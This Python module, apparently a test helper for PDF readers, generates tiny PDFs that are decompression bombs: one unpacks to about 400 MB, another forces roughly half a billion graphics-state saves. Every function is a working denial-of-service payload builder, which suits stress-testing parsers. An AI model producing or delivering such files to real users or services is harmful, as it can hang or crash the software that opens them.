"""Small PDFs that ask for much: memory, or time."""

import zlib

_BLOCK = 1 << 20


def swollen(piece: bytes, megabytes: int) -> bytes:
    """A stream in zlib's form that unpacks to a piece (of a power of two bytes) over so many megabytes."""
    packer = zlib.compressobj(9)
    block = piece * (_BLOCK // len(piece))
    head = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    # What begins after a full flush refers to nothing before it: it may stand as often as one likes.
    return head + again * (megabytes - 1)


SENTENCE = "BT /F1 12 Tf 60 700 Td (Kettles of the northern orchards were measured.) Tj ET"


def last_page_of(content: bytes, before: str = "") -> bytes:
    """A PDF whose last page draws this content, packed twice, a hundred times; `before` is the content of a first one.

    Readers mend the table of places that is left out."""
    kids = "6 0 R 3 0 R" if before else "3 0 R"
    page = "/Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Resources<</Font<</F1 5 0 R>>/XObject<</X 8 0 R>>>>"
    packed = zlib.compress(content, 9)
    objects = [
        b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj",
        f"2 0 obj<</Type/Pages/Kids[{kids}]/Count {len(kids.split()) // 3}>>endobj".encode(),
        f"3 0 obj<<{page}/Contents 4 0 R>>endobj".encode(),
        b"4 0 obj<</Length 600>>stream\n" + b"/X Do " * 100 + b"\nendstream endobj",
        b"5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj",
        f"6 0 obj<<{page}/Contents 7 0 R>>endobj".encode(),
        f"7 0 obj<</Length {len(before)}>>stream\n{before}\nendstream endobj".encode(),
        b"8 0 obj<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Length %d" % len(packed),
        b"/Filter[/FlateDecode/FlateDecode]>>stream\n" + packed + b"\nendstream endobj",
        b"trailer<</Size 9/Root 1 0 R>>\n%%EOF",
    ]
    return b"%PDF-1.4\n" + b"\n".join(objects)


def hungry(before: str = "") -> bytes:
    """A kilobyte that unpacks to 400 MB of blanks on the last page."""
    return last_page_of(swollen(b" ", 400), before)


def endless(before: str = "") -> bytes:
    """A last page on which the state of drawing is kept and taken up again half a billion times, in little memory."""
    return last_page_of(swollen(b"q Q ", 20), before)
